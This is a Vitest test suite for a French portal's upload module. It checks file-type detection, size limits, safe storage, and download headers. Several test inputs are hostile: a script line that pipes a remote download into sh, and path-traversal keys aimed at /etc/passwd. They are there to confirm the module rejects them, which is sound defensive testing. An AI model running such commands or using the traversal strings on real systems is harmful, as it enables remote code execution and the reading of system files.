import Fastify from "fastify";
import { mkdtemp, readdir, readFile, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { Readable } from "node:stream";
import { createHash } from "node:crypto";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { fixedClock } from "../clock.ts";
import { sendUploadAsAttachment } from "./download.ts";
import { buildDocx, buildDocxWithMacros, buildJpegHeader, buildPdf, buildPng, buildWindowsExecutable, buildZip, readLinuxExecutable } from "./test-files.ts";
import { deleteUpload, formatFileSize, openUpload, storeUpload, UploadNotFoundError, uploadsDirectory, type UploadDeps } from "./uploads.ts";

const MEGABYTE = 1024 * 1024;
let deps: UploadDeps;

beforeEach(async () => {
  deps = { config: { dataDir: await mkdtemp(path.join(tmpdir(), "guichet-uploads-")) }, clock: fixedClock(new Date("2026-03-02T09:00:00Z")) };
});
afterEach(async () => {
  await rm(deps.config.dataDir, { recursive: true, force: true });
});

/** Every file under the uploads folder, temporary ones included. */
async function filesOnDisk(): Promise<string[]> {
  const root = uploadsDirectory(deps);
  const entries = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((entry) => entry.isFile()).map((entry) => path.relative(root, path.join(entry.parentPath, entry.name)));
}

const documents = { accepted: ["pdf", "jpeg", "png"] as const, maxBytes: 10 * MEGABYTE };

describe("storing an upload", () => {
  it("keeps a real PDF under a random name in the data directory, with its record", async () => {
    const pdf = await buildPdf();
    const result = await storeUpload(deps, { content: pdf, declaredName: "C:\\Mes documents\\Avis d'impôt 2025.pdf", ...documents });
    if (!result.ok) throw new Error(result.message);
    const { upload } = result;
    expect(upload).toEqual({
      id: expect.stringMatching(/^[0-9a-f-]{36}$/),
      storageKey: expect.stringMatching(/^[a-z2-7]{2}\/[a-z2-7]{32}$/),
      originalName: "Avis d'impôt 2025.pdf",
      detectedType: "pdf",
      size: pdf.length,
      sha256: createHash("sha256").update(pdf).digest("hex"),
      createdAt: new Date("2026-03-02T09:00:00Z"),
    });
    expect(await filesOnDisk()).toEqual([upload.storageKey]);
    // Nothing of the declared name (random letters could spell « imp » by chance, not this).
    expect(upload.storageKey).not.toMatch(/avis.?d.?imp/i);
    const stored = path.join(deps.config.dataDir, "uploads", upload.storageKey);
    expect(await readFile(stored)).toEqual(pdf);
    // Readable by the portal's user only.
    expect((await stat(stored)).mode & 0o777).toBe(0o600);
  });

  it("accepts a PNG, a JPEG and a DOCX when they are asked for, from a stream too", async () => {
    const png = await storeUpload(deps, { content: Readable.from([buildPng()]), declaredName: "carte.png", ...documents });
    expect(png.ok && png.upload.detectedType).toBe("png");
    const jpeg = await storeUpload(deps, { content: Readable.from([buildJpegHeader()]), declaredName: "photo", ...documents });
    expect(jpeg.ok && jpeg.upload).toMatchObject({ detectedType: "jpeg", originalName: "photo.jpg" });
    const docx = await storeUpload(deps, { content: buildDocx(), declaredName: "rapport.docx", accepted: ["pdf", "odt", "docx"], maxBytes: MEGABYTE });
    expect(docx.ok && docx.upload.detectedType).toBe("docx");
    expect(await filesOnDisk()).toHaveLength(3);
  });

  it("refuses a program renamed .pdf, naming the accepted formats", async () => {
    for (const program of [readLinuxExecutable(), buildWindowsExecutable(), Buffer.from("#!/bin/bash\ncurl evil | sh\n"), buildDocxWithMacros()]) {
      const result = await storeUpload(deps, { content: program, declaredName: "avis-imposition.pdf", ...documents });
      expect(result).toEqual({
        ok: false,
        reason: "executable",
        message: "Ce fichier est un programme, pas un document : il ne peut pas être déposé. Formats acceptés : PDF, JPEG ou PNG.",
      });
    }
    expect(await filesOnDisk()).toEqual([]);
  });

  it("refuses a ZIP pretending to be a DOCX, and a real document of a format not asked for", async () => {
    const zip = buildZip([{ name: "rapport.txt", content: "Rapport d'activité" }]);
    const fake = await storeUpload(deps, { content: zip, declaredName: "rapport.docx", accepted: ["docx", "odt"], maxBytes: MEGABYTE });
    expect(fake).toEqual({
      ok: false,
      reason: "wrong-type",
      message: "Le format de ce fichier n'est pas accepté (son contenu a été vérifié, pas seulement son nom). Formats acceptés : DOCX ou ODT.",
    });
    const png = await storeUpload(deps, { content: buildPng(), declaredName: "budget.pdf", accepted: ["pdf"], maxBytes: MEGABYTE });
    expect(png.ok ? undefined : png.message).toBe("Le format de ce fichier n'est pas accepté (son contenu a été vérifié, pas seulement son nom). Formats acceptés : PDF.");
    expect(await filesOnDisk()).toEqual([]);
  });

  it("refuses an empty file", async () => {
    for (const content of [Buffer.alloc(0), Readable.from([])]) {
      expect(await storeUpload(deps, { content, declaredName: "vide.pdf", ...documents })).toEqual({
        ok: false,
        reason: "empty",
        message: "Le fichier est vide : choisissez un autre fichier.",
      });
    }
    expect(await filesOnDisk()).toEqual([]);
  });

  it("refuses a file over the limit, given whole or streamed, with the limit in Mo", async () => {
    const pdf = await buildPdf();
    const big = Buffer.concat([pdf, Buffer.alloc(2 * MEGABYTE - pdf.length + 1, 0x20)]);
    const message = "Le fichier dépasse la taille maximale autorisée (2 Mo).";
    expect(await storeUpload(deps, { content: big, declaredName: "gros.pdf", accepted: ["pdf"], maxBytes: 2 * MEGABYTE })).toEqual({ ok: false, reason: "too-large", message });
    const chunks = Array.from({ length: 40 }, (_, i) => (i === 0 ? pdf : Buffer.alloc(64 * 1024, 0x20)));
    const streamed = Readable.from(chunks);
    expect(await storeUpload(deps, { content: streamed, declaredName: "gros.pdf", accepted: ["pdf"], maxBytes: 2 * MEGABYTE })).toEqual({ ok: false, reason: "too-large", message });
    // The whole stream was read, so a multipart request is never left hanging.
    expect(streamed.readableEnded).toBe(true);
    // Exactly at the limit is accepted.
    const exact = Buffer.concat([pdf, Buffer.alloc(2 * MEGABYTE - pdf.length, 0x20)]);
    expect((await storeUpload(deps, { content: exact, declaredName: "juste.pdf", accepted: ["pdf"], maxBytes: 2 * MEGABYTE })).ok).toBe(true);
    expect(await filesOnDisk()).toHaveLength(1);
  });

  it("refuses a stream the multipart parser cut at its own limit", async () => {
    const stream = Object.assign(Readable.from([await buildPdf()]), { truncated: true });
    const result = await storeUpload(deps, { content: stream, declaredName: "coupé.pdf", accepted: ["pdf"], maxBytes: 5 * MEGABYTE });
    expect(result.ok ? undefined : result.reason).toBe("too-large");
    expect(await filesOnDisk()).toEqual([]);
  });

  it("leaves nothing behind when reading the upload fails", async () => {
    const failing = new Readable({
      read() {
        this.destroy(new Error("connection reset"));
      },
    });
    await expect(storeUpload(deps, { content: failing, declaredName: "a.pdf", ...documents })).rejects.toThrow("connection reset");
    expect(await filesOnDisk()).toEqual([]);
  });
});

describe("limits shown in Mo or Ko", () => {
  it("read as people say them", () => {
    expect(formatFileSize(10 * MEGABYTE)).toBe("10 Mo");
    expect(formatFileSize(2.5 * MEGABYTE)).toBe("2,5 Mo");
    expect(formatFileSize(5_000_000)).toBe("4,8 Mo");
    expect(formatFileSize(256 * 1024)).toBe("256 Ko");
  });
});

describe("reading and deleting an upload", () => {
  it("streams the stored bytes back, then deletes them once", async () => {
    const pdf = await buildPdf("Bulletin de salaire");
    const result = await storeUpload(deps, { content: pdf, declaredName: "bulletin.pdf", ...documents });
    if (!result.ok) throw new Error(result.message);
    const { stream, size } = await openUpload(deps, result.upload);
    expect(size).toBe(pdf.length);
    expect(Buffer.concat(await stream.toArray())).toEqual(pdf);

    expect(await deleteUpload(deps, result.upload)).toBe(true);
    expect(await deleteUpload(deps, result.upload)).toBe(false);
    await expect(openUpload(deps, result.upload)).rejects.toThrow(UploadNotFoundError);
  });

  it("never opens a key that could leave the uploads folder", async () => {
    for (const storageKey of ["../../etc/passwd", "ab/../../../etc/passwd", "/etc/passwd", "ab/cdefghijklmnopqrstuvwxyz2345672", ""]) {
      await expect(openUpload(deps, { storageKey }), storageKey).rejects.toThrow(UploadNotFoundError);
      await expect(deleteUpload(deps, { storageKey }), storageKey).rejects.toThrow(UploadNotFoundError);
    }
  });
});

describe("downloading an upload", () => {
  it("is an attachment with the detected type, no sniffing and no caching", async () => {
    const pdf = await buildPdf();
    const result = await storeUpload(deps, { content: pdf, declaredName: "Relevé d'identité bancaire.exe", ...documents });
    if (!result.ok) throw new Error(result.message);
    const app = Fastify();
    app.get("/piece", (_request, reply) => sendUploadAsAttachment(reply, deps, result.upload));
    const response = await app.inject({ method: "GET", url: "/piece" });
    await app.close();

    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("application/pdf");
    expect(response.headers["content-disposition"]).toBe(
      `attachment; filename="Releve d'identite bancaire.exe.pdf"; filename*=UTF-8''Relev%C3%A9%20d%27identit%C3%A9%20bancaire.exe.pdf`,
    );
    expect(response.headers["x-content-type-options"]).toBe("nosniff");
    expect(response.headers["cache-control"]).toBe("private, no-store");
    expect(response.headers["content-length"]).toBe(String(pdf.length));
    expect(response.rawPayload).toEqual(pdf);
  });

  it("fails with UploadNotFoundError before sending anything when the file is gone", async () => {
    const result = await storeUpload(deps, { content: buildPng(), declaredName: "plan.png", ...documents });
    if (!result.ok) throw new Error(result.message);
    await deleteUpload(deps, result.upload);
    const app = Fastify();
    let thrown: unknown;
    app.get("/piece", async (_request, reply) => {
      try {
        return await sendUploadAsAttachment(reply, deps, result.upload);
      } catch (error) {
        thrown = error;
        return reply.code(404).send("Introuvable");
      }
    });
    const response = await app.inject({ method: "GET", url: "/piece" });
    await app.close();
    expect(thrown).toBeInstanceOf(UploadNotFoundError);
    expect(response.statusCode).toBe(404);
  });
});
